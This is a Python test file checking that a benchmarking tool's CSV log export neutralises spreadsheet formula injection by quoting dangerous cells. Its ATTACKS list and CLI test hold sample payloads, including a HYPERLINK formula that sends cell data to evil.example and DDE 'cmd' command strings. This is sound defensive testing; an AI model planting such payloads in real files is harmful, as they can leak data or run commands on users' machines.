"""`log export --format csv`: no text cell a spreadsheet would run as a formula (OWASP, "CSV
Injection"): such a cell starts with a single quote; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from store_helpers import INFO, make_result

from app.engines.types import GenerationRequest
from app.store import SessionLog
from app.store.export import CSV_COLUMNS, write_csv

# The test's own oracle, not the module's: what Excel, LibreOffice and Sheets start a formula with.
TRIGGERS = "=+-@\uff1d\uff0b\uff0d\uff20"


def runs_as_formula(cell: str) -> bool:
    visible = cell.lstrip()
    return cell[:1] in ("\t", "\r", "\n") or (visible != "" and visible[0] in TRIGGERS)


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def add_run(log: SessionLog, prompt: str, model: str, **result_args) -> int:
    request = GenerationRequest.from_prompt(prompt)
    prompt_id = log.add_prompt(log.start_session(), request, known_answer=result_args.pop("known_answer", None))
    run_id = log.start_run(prompt_id, pane=0, info=replace(INFO, name=model), request=request)
    log.finish_run(run_id, make_result().updated(model=model, **result_args))
    return run_id


def csv_rows(log: SessionLog, path, session_id: int | None = None) -> list[dict]:
    write_csv(log, path, session_id=session_id, keep_home_paths=True)
    with open(path, encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_prompt_or_model_name_that_would_run_as_a_formula_is_written_as_text(tmp_path, log, attack):
    add_run(log, prompt=attack, model=attack, no_answer=attack, known_answer="=1", error_kind="@x")
    [row] = csv_rows(log, tmp_path / "runs.csv")
    for column in ("prompt", "model", "no_answer", "known_answer", "error_kind"):
        assert not runs_as_formula(row[column]) and row[column].startswith("'"), (column, row[column])
    assert row["prompt"] == "'" + attack and row["model"] == "'" + attack


def test_numbers_stay_numbers_and_plain_text_stays_as_it_was(tmp_path, log):
    add_run(log, prompt="What is -1.5 + 1?", model="smollm2-135m", decode_tps=-1.5, ttft_s=-0.25,
            n_generated=5)
    [row] = csv_rows(log, tmp_path / "runs.csv")
    assert (row["decode_tps"], row["ttft_s"]) == ("-1.5", "-0.25")  # numeric columns: no quote
    assert row["prompt"] == "What is -1.5 + 1?" and row["model"] == "smollm2-135m"


def test_the_cli_export_neutralises_too(db_path, log, capsys):
    import argparse

    from app.store.commands import add_log_commands

    add_run(log, prompt='=HYPERLINK("http://evil.example/?x="&A1,"x")', model="@evil")
    log.close()
    parser = argparse.ArgumentParser(prog="fastslow")
    add_log_commands(parser.add_subparsers(dest="command", required=True))
    args = parser.parse_args(["log", "export", "--format", "csv", "--output", "-", "--db", str(db_path)])
    assert args.func(args) == 0
    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
    assert row["prompt"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"x")' and row["model"] == "'@evil"


# -- property: whatever the texts, no cell runs as a formula ----------------------------------

texts = st.tuples(st.sampled_from(["", "=", "+", "-", "@", "\t", "\r", "\n", " =", " \t+", "\uff1d", "'", "1"]),
                  st.text(max_size=20)).map("".join)
numbers = st.floats(allow_nan=False, allow_infinity=False, width=64)


@pytest.fixture(scope="module")
def shared(tmp_path_factory):
    folder = tmp_path_factory.mktemp("csv")
    log = SessionLog.open(folder / "log.db")
    yield log, folder / "runs.csv"
    log.close()


@settings(max_examples=150, deadline=None)
@given(prompt=texts, model=texts, no_answer=texts, known=texts, error_kind=texts, decode_tps=numbers, ttft_s=numbers)
def test_no_cell_runs_as_a_formula(shared, prompt, model, no_answer, known, error_kind, decode_tps, ttft_s):
    log, path = shared
    run_id = add_run(log, prompt=prompt, model=model, no_answer=no_answer, known_answer=known,
                     error_kind=error_kind, decode_tps=decode_tps, ttft_s=ttft_s)
    record = log.run_record(run_id)
    [row] = csv_rows(log, path, record["session"]["id"])
    assert list(row) == CSV_COLUMNS
    numeric = {c for c in CSV_COLUMNS if type(record["run"].get(c)) in (int, float)} | {"session_id", "prompt_id"}
    for column, cell in row.items():
        assert not runs_as_formula(cell) or (column in numeric and is_number(cell)), (column, cell)
    assert (float(row["decode_tps"]), float(row["ttft_s"])) == (decode_tps, ttft_s)  # numbers, exactly
    for column, text in (("prompt", prompt), ("model", model), ("no_answer", no_answer), ("error_kind", error_kind)):
        assert row[column] == ("'" + text if runs_as_formula(text) else text), column  # the text, at most quoted
